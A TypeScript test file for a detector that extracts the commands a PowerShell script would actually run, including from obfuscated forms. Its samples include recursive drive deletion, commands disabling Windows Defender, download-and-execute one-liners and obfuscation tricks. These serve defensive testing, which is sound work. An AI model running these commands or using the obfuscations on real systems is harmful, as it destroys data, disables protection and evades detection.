import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { scriptCommands, scriptRuns } from './reading.ts';

const encoded = Buffer.from('Remove-Item C:\\ -Recurse', 'utf16le').toString('base64');
const base64 = Buffer.from('Remove-Item C:\\').toString('base64');

/** Each of them runs, among others, the command on the right. */
const rows: [string, string][] = [
  ['Remove-Item -Recurse -Force C:\\x', 'Remove-Item -Recurse -Force -Path C:\\x'],
  ["ri -r -fo 'C:\\a b'", 'Remove-Item -Recurse -Force -Path C:\\a b'],
  ['del -Rec $env:USERPROFILE', 'Remove-Item -Recurse -Path ~'],
  ['rm -rf ~/x', 'rm -rf ~/x'],
  ['del /f /s /q C:\\*', 'del /f /s /q C:\\*'],
  ['Set-MpPreference -DisableRealtimeMonitoring:$true', 'Set-MpPreference -DisableRealtimeMonitoring True'],
  ['Remove-Item x -Confirm:$false', 'Remove-Item -Confirm=false -Path x'],
  ["& ('i'+'ex') 'ri C:\\'", 'Remove-Item -Path C:\\'],
  ["&([char]105+[char]101+'x') 'ri C:\\'", 'Remove-Item -Path C:\\'],
  ['$a=\'Remove\'; & "$a-Item" C:\\ -Recurse', 'Remove-Item -Recurse -Path C:\\'],
  ["$p = @{ Path = 'C:\\'; Recurse = $true }; Remove-Item @p", 'Remove-Item -Path C:\\ -Recurse'],
  ['Re`mov`e-It`em C:\\', 'Remove-Item -Path C:\\'],
  [`powershell -enc ${encoded}`, 'Remove-Item -Recurse -Path C:\\'],
  ['powershell -NoP -c "Remove-Item C:\\"', 'Remove-Item -Path C:\\'],
  ['pwsh -Command { Remove-Item C:\\ }', 'Remove-Item -Path C:\\'],
  [
    `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64}')))`,
    'Remove-Item -Path C:\\',
  ],
  ["('{1}{0}' -f 'Item C:\\','Remove-') | iex", 'Remove-Item -Path C:\\'],
  ["('Remxxve-Item C:\\' -replace 'xx','o') | iex", 'Remove-Item -Path C:\\'],
  ["('R','emove-','Item C:\\' -join '') | iex", 'Remove-Item -Path C:\\'],
  ["-join ('\\:C metI-evomeR'[-1..-15]) | iex", 'Remove-Item -Path C:\\'],
  ["'Remove-Item C:\\'.Replace('C:','D:') | iex", 'Remove-Item -Path D:\\'],
  ["@'\nRemove-Item C:\\\n'@ | iex", 'Remove-Item -Path C:\\'],
  ['Start-Process powershell -ArgumentList \'-c "Remove-Item C:\\x"\'', 'Remove-Item -Path C:\\x'],
  ['icm srv { Remove-Item C:\\x }', 'Remove-Item -Path C:\\x'],
  ["'C:\\a','C:\\b' | % { ri $_ -r }", 'Remove-Item -Recurse -Path C:\\b'],
  ["foreach ($d in 'C:\\a','D:\\b') { Remove-Item $d }", 'Remove-Item -Path D:\\b'],
  ['if ($x) { ls } else { Remove-Item C:\\x }', 'Remove-Item -Path C:\\x'],
  ['try { ls } catch [Exception] { 1 } finally { Remove-Item C:\\x }', 'Remove-Item -Path C:\\x'],
  ['switch ($x) { 1 { Remove-Item C:\\x } default { ls } }', 'Remove-Item -Path C:\\x'],
  ['function f($p) { Remove-Item $p }; f C:\\x', 'Remove-Item -Path C:\\x'],
  ['function g { param([string]$p = "C:\\x") Remove-Item $p }; g', 'Remove-Item -Path C:\\x'],
  ['$b = { Remove-Item C:\\x }; $b.Invoke()', 'Remove-Item -Path C:\\x'],
  ['sal zap Remove-Item; zap C:\\x', 'Remove-Item -Path C:\\x'],
  ["& (gcm *ke-ex*) 'ri C:\\x'", 'Remove-Item -Path C:\\x'],
  ['"a$(Remove-Item C:\\x)b"', 'Remove-Item -Path C:\\x'],
  ['gci C:\\x -r | Remove-Item -Force', 'Remove-Item -Force -Path C:\\x\\* -Recurse'],
  ['cmd /c "rd /s /q C:\\x"', 'rd /s /q C:\\x'],
  ["[Diagnostics.Process]::Start('cmd','/c rd C:\\x')", 'rd C:\\x'],
  ['sc config WinDefend start= disabled', 'sc config WinDefend start= disabled'],
  ['git commit -m "x" --no-verify', 'git commit -m x --no-verify'],
  ['docker run -v ${PWD}:/app img', 'docker run -v .:/app img'],
  ['Get-Process |\n  Where-Object { $_.CPU -gt 10 }', 'Get-Process'],
];
for (const [text, command] of rows) {
  test(`PowerShell: ${text}`, () => {
    const found = scriptCommands(text, 'powershell');
    assert.ok(found.includes(command), found.join('\n'));
  });
}

test('what only stands in texts, comments and blocks that nobody calls does not run', () => {
  for (const text of [
    "'Remove-Item C:\\'",
    '# Remove-Item C:\\',
    '<# Remove-Item C:\\ #>',
    "Write-Host 'Remove-Item C:\\'",
    '$x = { Remove-Item C:\\ }',
  ]) {
    assert.deepEqual(
      scriptCommands(text, 'powershell').filter((one) => one.startsWith('Remove-Item')),
      [],
      text,
    );
  }
});

test('code that cannot be known is said to be unreadable, code from the network to be from there', () => {
  const said: [string, string][] = [
    ['iex $x', 'opaque variable'],
    ['iex (Get-Secret)', 'opaque output'],
    ['& $x', 'opaque command-name'],
    ["Get-Item 'a", 'opaque syntax'],
    ['iex (irm https://a.example)', 'network'],
    ['irm https://a.example | iex', 'network'],
    ["IEX(New-Object Net.WebClient).DownloadString('https://a.example')", 'network'],
    ['$c = (iwr https://a.example).Content; iex $c', 'network'],
    ['& ([scriptblock]::Create((irm https://a.example)))', 'network'],
    ['iwr https://a.example -OutFile x.ps1; powershell -File x.ps1', 'network'],
    [`powershell -e ${encoded}`, 'decoded'],
    ['powershell -e !!!', 'opaque variable'],
  ];
  for (const [text, reason] of said) {
    const found = scriptRuns(text, 'powershell');
    assert.ok(found.includes(reason), `${text}: ${found.join()}`);
  }
});

const PIECES = [
  ...'\'"`$(){}[]@;|&,.=-+#<>\n ',
  "@'\n",
  "\n'@",
  '@"',
  '$(',
  '@(',
  '@{',
  '[char]',
  '::',
  '..',
  'if',
  'foreach ($x in ',
  'function f',
  'param(',
  'iex',
  '-f',
  '-join',
  '-replace',
  '$x',
  '$_',
  '& ',
  '--%',
  '-Path:',
  '%',
  '\ud800',
  '\0',
  'x',
  '1',
  'switch',
  'try',
  'catch',
  '.Replace(',
  '-enc',
  'powershell -c',
  'cmd /c',
  '\ufffc',
];

test('no text makes the PowerShell reader throw, and every span lies in the text', () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...PIECES), { maxLength: 30 }), (pieces) => {
      scriptCommands(pieces.join(''), 'powershell');
    }),
    { numRuns: 3000 },
  );
});

test('long and deep texts end in a limit, not in a crash', () => {
  for (const text of [
    '('.repeat(20_000),
    '{'.repeat(20_000),
    '@{a='.repeat(10_000),
    '$('.repeat(20_000),
    '"$('.repeat(10_000),
    '!'.repeat(20_000),
    "'a'+".repeat(20_000),
    '$x='.repeat(10_000),
    `$x='ab'\n${'$x=$x+$x\n'.repeat(60)}iex $x`,
    'function f { f; f }; f',
    '$b={ & $b }; & $b',
    '1..999 | % { 1..999 | % { 1..999 | % { ri $_ } } }',
    '['.repeat(20_000),
    'if(1){'.repeat(10_000),
  ]) {
    const start = performance.now();
    scriptCommands(text, 'powershell');
    assert.ok(performance.now() - start < 5_000, text.slice(0, 30));
  }
});
